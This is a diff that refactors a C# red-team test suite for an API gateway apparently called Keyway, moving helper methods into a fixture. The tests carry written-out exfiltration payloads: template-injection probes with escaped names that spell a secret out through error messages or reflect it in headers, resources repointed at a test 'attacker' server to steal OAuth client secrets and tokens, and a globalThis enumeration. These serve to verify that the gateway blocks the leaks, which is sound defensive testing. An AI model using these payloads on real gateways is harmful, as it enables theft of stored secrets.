@@ -34,10 +34,10 @@ public sealed class RedTeamTests(SqliteKeyway fixture) : IClassFixture<SqliteKey
     [Fact]
     public async Task An_editor_cannot_spell_out_an_attached_secret_through_the_names_kept_in_template_errors()
     {
-        var (canary, value) = await CanaryAsync();
+        var (canary, value) = await fixture.CanaryAsync();
         var resource = KeywayFixture.Unique("oracle");
-        await fixture.PutResourceAsync(resource, Resource(fixture.Upstream.BaseUrl, null, Bearer(canary)));
-        var (name, editor) = await MemberAsync();
+        await fixture.PutResourceAsync(resource, Actors.Resource(fixture.Upstream.BaseUrl, null, Actors.Bearer(canary)));
+        var (name, editor) = await fixture.MemberAsync();
         await Grant(resource, name, "edit");
         var alphabet = string.Concat(Enumerable.Range(32, 95).Select(c => "k" + c));
 
@@ -47,7 +47,7 @@ public sealed class RedTeamTests(SqliteKeyway fixture) : IClassFixture<SqliteKey
         {
             var probe = $"{{{{ [(void 0)['k' + \\u0065nvironment.variables.{canary}.charCodeAt({i})], '{alphabet}'][1] }}}}";
             var save = await editor.PutAsJsonAsync($"/api/v1/resources/{resource}",
-                Resource(fixture.Upstream.BaseUrl, new JsonObject { ["X-Probe"] = probe }, Bearer(canary)));
+                Actors.Resource(fixture.Upstream.BaseUrl, new JsonObject { ["X-Probe"] = probe }, Actors.Bearer(canary)));
             if (!save.IsSuccessStatusCode)
             {
                 refusals.Add(await save.Content.ReadAsStringAsync());
@@ -82,7 +82,7 @@ public sealed class RedTeamTests(SqliteKeyway fixture) : IClassFixture<SqliteKey
     {
         await using var tokens = await UpstreamServer.StartAsync(app => app.MapPost("/token", () =>
             Results.Json(new { access_token = "at-" + Guid.NewGuid().ToString("N"), token_type = "Bearer", expires_in = 3600 })));
-        var (canary, value) = await CanaryAsync();
+        var (canary, value) = await fixture.CanaryAsync();
         await Bind(canary, tokens.BaseUrl);
         var resource = KeywayFixture.Unique("oauth");
         var auth = new JsonObject
@@ -94,13 +94,13 @@ public sealed class RedTeamTests(SqliteKeyway fixture) : IClassFixture<SqliteKey
             ["clientSecret"] = $"{{{{ environment.variables.{canary} }}}}",
         };
         // The API lives on another origin than the token endpoint: the client secret is bound away from it.
-        await fixture.PutResourceAsync(resource, Resource(_attacker.BaseUrl, null, auth));
+        await fixture.PutResourceAsync(resource, Actors.Resource(_attacker.BaseUrl, null, auth));
         await Expect.StatusAsync(await Admin.PostAsJsonAsync($"/api/v1/resources/{resource}/run", new { path = "/before" }), 200);
-        var (name, editor) = await MemberAsync();
+        var (name, editor) = await fixture.MemberAsync();
         await Grant(resource, name, "edit");
 
         var save = await editor.PutAsJsonAsync($"/api/v1/resources/{resource}",
-            Resource(_attacker.BaseUrl, new JsonObject { ["X-Leak"] = $"{{{{ String(\\u0065nvironment.variables.{canary}) }}}}" }, (JsonObject)auth.DeepClone()));
+            Actors.Resource(_attacker.BaseUrl, new JsonObject { ["X-Leak"] = $"{{{{ String(\\u0065nvironment.variables.{canary}) }}}}" }, (JsonObject)auth.DeepClone()));
         var run = save.IsSuccessStatusCode
             ? await editor.PostAsJsonAsync($"/api/v1/resources/{resource}/run", new { path = "/after" })
             : null;
@@ -120,15 +120,15 @@ public sealed class RedTeamTests(SqliteKeyway fixture) : IClassFixture<SqliteKey
     [Fact]
     public async Task An_editor_cannot_read_an_attached_secret_back_from_an_upstream_that_reflects_headers()
     {
-        var (canary, value) = await CanaryAsync();
+        var (canary, value) = await fixture.CanaryAsync();
         await Bind(canary, fixture.Upstream.BaseUrl);
         var resource = KeywayFixture.Unique("mirror");
-        await fixture.PutResourceAsync(resource, Resource(fixture.Upstream.BaseUrl, null, Bearer(canary)));
-        var (name, editor) = await MemberAsync();
+        await fixture.PutResourceAsync(resource, Actors.Resource(fixture.Upstream.BaseUrl, null, Actors.Bearer(canary)));
+        var (name, editor) = await fixture.MemberAsync();
         await Grant(resource, name, "edit");
 
-        var save = await editor.PutAsJsonAsync($"/api/v1/resources/{resource}", Resource(fixture.Upstream.BaseUrl,
-            new JsonObject { ["X-Mirror"] = $"{{{{ \\u0065nvironment.variables.{canary}.split('').reverse().join('') }}}}" }, Bearer(canary)));
+        var save = await editor.PutAsJsonAsync($"/api/v1/resources/{resource}", Actors.Resource(fixture.Upstream.BaseUrl,
+            new JsonObject { ["X-Mirror"] = $"{{{{ \\u0065nvironment.variables.{canary}.split('').reverse().join('') }}}}" }, Actors.Bearer(canary)));
         var body = save.IsSuccessStatusCode
             ? await (await editor.PostAsJsonAsync($"/api/v1/resources/{resource}/run", new { path = "/echo-header/X-Mirror" })).Content.ReadAsStringAsync()
             : await save.Content.ReadAsStringAsync();
@@ -146,9 +146,9 @@ public sealed class RedTeamTests(SqliteKeyway fixture) : IClassFixture<SqliteKey
     [Fact]
     public async Task A_holder_of_attach_on_a_bound_secret_cannot_read_it_through_a_javascript_steps_error()
     {
-        var (canary, value) = await CanaryAsync();
+        var (canary, value) = await fixture.CanaryAsync();
         await Bind(canary, fixture.Upstream.BaseUrl);
-        var (name, builder) = await BuilderAsync();
+        var (name, builder) = await fixture.BuilderAsync();
         await Expect.StatusAsync(await Admin.PostAsJsonAsync("/api/v1/rights", new { right = "attach", variable = canary, user = name }), 201);
         var resource = KeywayFixture.Unique("named");
         var flow = new JsonObject
@@ -164,7 +164,7 @@ public sealed class RedTeamTests(SqliteKeyway fixture) : IClassFixture<SqliteKey
             ["lifetimeSeconds"] = 60,
         };
 
-        var save = await builder.PutAsJsonAsync($"/api/v1/resources/{resource}", Resource(fixture.Upstream.BaseUrl, null, flow));
+        var save = await builder.PutAsJsonAsync($"/api/v1/resources/{resource}", Actors.Resource(fixture.Upstream.BaseUrl, null, flow));
         var run = save.IsSuccessStatusCode ? await builder.PostAsJsonAsync($"/api/v1/resources/{resource}/run", new { path = "/named" }) : save;
         var test = save.IsSuccessStatusCode ? await builder.PostAsync($"/api/v1/resources/{resource}/test", null) : save;
         var bodies = await run.Content.ReadAsStringAsync() + "\n" + await test.Content.ReadAsStringAsync();
@@ -186,19 +186,19 @@ public sealed class RedTeamTests(SqliteKeyway fixture) : IClassFixture<SqliteKey
     {
         await using var tokens = await UpstreamServer.StartAsync(app => app.MapPost("/token", () =>
             Results.Json(new { access_token = "at-" + Guid.NewGuid().ToString("N"), token_type = "Bearer", expires_in = 3600 })));
-        var (canary, _) = await CanaryAsync();
+        var (canary, _) = await fixture.CanaryAsync();
         var resource = KeywayFixture.Unique("minted");
         var auth = OAuth(tokens, canary);
-        await fixture.PutResourceAsync(resource, Resource(fixture.Upstream.BaseUrl, null, auth));
+        await fixture.PutResourceAsync(resource, Actors.Resource(fixture.Upstream.BaseUrl, null, auth));
         await Expect.StatusAsync(await Admin.PostAsJsonAsync($"/api/v1/resources/{resource}/run", new { path = "/minted" }), 200);
         var token = fixture.Upstream.Requests.Single(r => r.Path == "/minted").Headers["Authorization"];
-        var (name, owner) = await MemberAsync();
+        var (name, owner) = await fixture.MemberAsync();
         await Grant(resource, name, "own");
 
-        var moved = await owner.PutAsJsonAsync($"/api/v1/resources/{resource}", Resource(_attacker.BaseUrl, null, (JsonObject)auth.DeepClone()));
+        var moved = await owner.PutAsJsonAsync($"/api/v1/resources/{resource}", Actors.Resource(_attacker.BaseUrl, null, (JsonObject)auth.DeepClone()));
         var stripped = (JsonObject)auth.DeepClone();
         stripped.Remove("clientSecret");
-        var movedWithout = await owner.PutAsJsonAsync($"/api/v1/resources/{resource}", Resource(_attacker.BaseUrl, null, stripped));
+        var movedWithout = await owner.PutAsJsonAsync($"/api/v1/resources/{resource}", Actors.Resource(_attacker.BaseUrl, null, stripped));
         var run = movedWithout.IsSuccessStatusCode
             ? await owner.PostAsJsonAsync($"/api/v1/resources/{resource}/run", new { path = "/stolen" })
             : movedWithout;
@@ -220,18 +220,18 @@ public sealed class RedTeamTests(SqliteKeyway fixture) : IClassFixture<SqliteKey
     {
         await using var tokens = await UpstreamServer.StartAsync(app => app.MapPost("/token", () =>
             Results.Json(new { access_token = "at-" + Guid.NewGuid().ToString("N"), token_type = "Bearer", expires_in = 3600 })));
-        var (canary, _) = await CanaryAsync();
+        var (canary, _) = await fixture.CanaryAsync();
         var resource = KeywayFixture.Unique("reborn");
         var auth = OAuth(tokens, canary);
-        await fixture.PutResourceAsync(resource, Resource(fixture.Upstream.BaseUrl, null, auth));
+        await fixture.PutResourceAsync(resource, Actors.Resource(fixture.Upstream.BaseUrl, null, auth));
         await Expect.StatusAsync(await Admin.PostAsJsonAsync($"/api/v1/resources/{resource}/run", new { path = "/reborn" }), 200);
         var token = fixture.Upstream.Requests.Single(r => r.Path == "/reborn").Headers["Authorization"];
         Assert.Equal(System.Net.HttpStatusCode.NoContent, (await Admin.DeleteAsync($"/api/v1/resources/{resource}")).StatusCode);
-        var (_, builder) = await BuilderAsync();
+        var (_, builder) = await fixture.BuilderAsync();
 
         var stripped = (JsonObject)auth.DeepClone();
         stripped.Remove("clientSecret");
-        var created = await builder.PutAsJsonAsync($"/api/v1/resources/{resource}", Resource(_attacker.BaseUrl, null, stripped));
+        var created = await builder.PutAsJsonAsync($"/api/v1/resources/{resource}", Actors.Resource(_attacker.BaseUrl, null, stripped));
         var run = created.IsSuccessStatusCode
             ? await builder.PostAsJsonAsync($"/api/v1/resources/{resource}/run", new { path = "/inherited" })
             : created;
@@ -252,10 +252,10 @@ public sealed class RedTeamTests(SqliteKeyway fixture) : IClassFixture<SqliteKey
         var staging = KeywayFixture.Unique("stg");
         await Expect.SuccessAsync(await Admin.PutAsJsonAsync($"/api/v1/environments/{staging}", new { }));
         var resource = KeywayFixture.Unique("kept");
-        await fixture.PutResourceAsync(resource, Resource(fixture.Upstream.BaseUrl, null, null));
-        var (owner, _) = await MemberAsync();
+        await fixture.PutResourceAsync(resource, Actors.Resource(fixture.Upstream.BaseUrl, null, null));
+        var (owner, _) = await fixture.MemberAsync();
         await Grant(resource, owner, "own");
-        var (friend, _) = await MemberAsync();
+        var (friend, _) = await fixture.MemberAsync();
         var key = await Expect.StatusAsync(await Admin.PostAsJsonAsync("/api/v1/keys",
             new { name = "staging-only", owner, scopes = new { environments = new[] { staging } } }), 201);
         using var scoped = fixture.Keyway.CreateClient((string)key["token"]!);
@@ -281,10 +281,10 @@ public sealed class RedTeamTests(SqliteKeyway fixture) : IClassFixture<SqliteKey
     {
         var staging = KeywayFixture.Unique("stg");
         await Expect.SuccessAsync(await Admin.PutAsJsonAsync($"/api/v1/environments/{staging}", new { }));
-        var (canary, value) = await CanaryAsync();
+        var (canary, value) = await fixture.CanaryAsync();
         var resource = KeywayFixture.Unique("staged");
-        await fixture.PutResourceAsync(resource, Resource(fixture.Upstream.BaseUrl, null, Bearer(canary)));
-        var (name, member) = await MemberAsync();
+        await fixture.PutResourceAsync(resource, Actors.Resource(fixture.Upstream.BaseUrl, null, Actors.Bearer(canary)));
+        var (name, member) = await fixture.MemberAsync();
         await Expect.StatusAsync(await Admin.PostAsJsonAsync($"/api/v1/resources/{resource}/permissions",
             new { user = name, permission = "own", environment = staging }), 201);
         await Expect.ProblemAsync(await member.PostAsJsonAsync($"/api/v1/resources/{resource}/run", new { path = "/prod-before" }), 403, "forbidden");
@@ -315,7 +315,7 @@ public sealed class RedTeamTests(SqliteKeyway fixture) : IClassFixture<SqliteKey
             new { name = "staging-only", scopes = new { environments = new[] { staging } } }), 201);
         using var scoped = fixture.Keyway.CreateClient((string)key["token"]!);
         var resource = KeywayFixture.Unique("stolen");
-        var definition = Resource(_attacker.BaseUrl, new JsonObject { ["X-A"] = $"{{{{ environment.variables.{canary} }}}}" }, null);
+        var definition = Actors.Resource(_attacker.BaseUrl, new JsonObject { ["X-A"] = $"{{{{ environment.variables.{canary} }}}}" }, null);
 
         await Expect.ProblemAsync(await scoped.PutAsJsonAsync($"/api/v1/resources/{resource}", definition), 403, "forbidden");
         var created = await scoped.PutAsJsonAsync($"/api/v1/resources/{resource}?environment={staging}", definition);
@@ -341,12 +341,12 @@ public sealed class RedTeamTests(SqliteKeyway fixture) : IClassFixture<SqliteKey
     [InlineData("{{ JSON.stringify(Object.getOwnPropertyNames(globalThis).map(n => [n, typeof globalThis[n] === 'object' ? JSON.stringify(globalThis[n]) : ''])) }}")]
     public async Task A_builders_template_that_reaches_for_every_variable_without_naming_one_finds_no_secret(string template)
     {
-        var (_, value) = await CanaryAsync();
-        var (_, builder) = await BuilderAsync();
+        var (_, value) = await fixture.CanaryAsync();
+        var (_, builder) = await fixture.BuilderAsync();
         var resource = KeywayFixture.Unique("reach");
 
         var save = await builder.PutAsJsonAsync($"/api/v1/resources/{resource}",
-            Resource(_attacker.BaseUrl, new JsonObject { ["X-All"] = template }, null));
+            Actors.Resource(_attacker.BaseUrl, new JsonObject { ["X-All"] = template }, null));
         var run = save.IsSuccessStatusCode ? await builder.PostAsJsonAsync($"/api/v1/resources/{resource}/run", new { path = "/reach" }) : save;
         var body = await run.Content.ReadAsStringAsync();
 
@@ -362,10 +362,10 @@ public sealed class RedTeamTests(SqliteKeyway fixture) : IClassFixture<SqliteKey
     [Fact]
     public async Task A_users_saved_query_that_names_a_secret_sends_nothing_of_it()
     {
-        var (canary, value) = await CanaryAsync();
+        var (canary, value) = await fixture.CanaryAsync();
         var resource = KeywayFixture.Unique("queried");
-        await fixture.PutResourceAsync(resource, Resource(fixture.Upstream.BaseUrl, null, Bearer(canary)));
-        var (name, user) = await MemberAsync();
+        await fixture.PutResourceAsync(resource, Actors.Resource(fixture.Upstream.BaseUrl, null, Actors.Bearer(canary)));
+        var (name, user) = await fixture.MemberAsync();
         await Grant(resource, name, "use");
         var query = KeywayFixture.Unique("q");
 
@@ -392,22 +392,6 @@ public sealed class RedTeamTests(SqliteKeyway fixture) : IClassFixture<SqliteKey
         await Expect.StatusAsync(await Admin.PutAsJsonAsync($"/api/v1/environments/production/variables/{variable}/origins",
             new { origins = new[] { origin } }), 200);
 
-    private static JsonObject Resource(string baseUrl, JsonObject? headers, JsonObject? auth)
-    {
-        var definition = new JsonObject { ["kind"] = "rest", ["baseUrl"] = baseUrl };
-        if (headers is not null)
-        {
-            definition["headers"] = headers;
-        }
-
-        if (auth is not null)
-        {
-            definition["auth"] = auth;
-        }
-
-        return definition;
-    }
-
     private static JsonObject OAuth(UpstreamServer tokens, string clientSecretVariable) => new()
     {
         ["type"] = "oauth2",
@@ -416,29 +400,4 @@ public sealed class RedTeamTests(SqliteKeyway fixture) : IClassFixture<SqliteKey
         ["clientId"] = "keyway",
         ["clientSecret"] = $"{{{{ environment.variables.{clientSecretVariable} }}}}",
     };
-
-    private static JsonObject Bearer(string variable) => new() { ["type"] = "bearer", ["token"] = $"{{{{ environment.variables.{variable} }}}}" };
-
-    private async Task<(string Name, string Value)> CanaryAsync()
-    {
-        var name = "CANARY_" + Guid.NewGuid().ToString("N")[..8].ToUpperInvariant();
-        var value = "canary-" + Guid.NewGuid().ToString("N");
-        await fixture.SetVariableAsync(name, value, secret: true);
-        return (name, value);
-    }
-
-    private async Task<(string Name, HttpClient Client)> MemberAsync()
-    {
-        var name = KeywayFixture.Unique("m");
-        await Expect.StatusAsync(await Admin.PostAsJsonAsync("/api/v1/users", new { name, role = "member" }), 201);
-        var key = await Expect.StatusAsync(await Admin.PostAsJsonAsync("/api/v1/keys", new { name = "test", owner = name }), 201);
-        return (name, fixture.Keyway.CreateClient((string)key["token"]!));
-    }
-
-    private async Task<(string Name, HttpClient Client)> BuilderAsync()
-    {
-        var (name, client) = await MemberAsync();
-        await Expect.StatusAsync(await Admin.PostAsJsonAsync("/api/v1/rights", new { right = "build", user = name }), 201);
-        return (name, client);
-    }
 }
